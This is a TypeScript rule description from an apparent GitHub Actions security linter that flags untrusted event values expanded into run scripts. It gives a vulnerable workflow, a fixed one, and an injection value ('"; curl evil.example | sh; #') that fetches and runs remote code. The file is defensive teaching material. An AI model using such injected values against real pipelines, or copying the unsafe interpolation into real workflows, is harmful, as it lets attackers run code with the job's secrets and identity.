import type {RuleAbout} from '../../rule.js'

export const about: RuleAbout = {
  summary: 'Untrusted input is expanded into a script',
  why: 'An expression in a script is replaced before the shell starts. A title, a branch name or a commit message is whatever its author wrote: `"; curl evil.example | sh; #` in a title becomes commands of the job. They run with all that the job holds: its OIDC identity, its secrets, its service connection. Where it holds none of these it is a warning.',
  fix: 'Pass the value through `env` and use the quoted variable: `"$TITLE"`. The shell then takes it as one value, whatever it contains. In `actions/github-script` read `process.env` or `context.payload`.',
  securitySeverity: 9,
  references: [
    'https://docs.github.com/en/actions/concepts/security/script-injections',
    'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs'
  ],
  bad: {
    file: '.github/workflows/greet.yml',
    text: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - run: ./deploy "\${{ github.event.issue.title }}"
`
  },
  good: {
    file: '.github/workflows/greet.yml',
    text: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: ./deploy "$TITLE"
`
  }
}
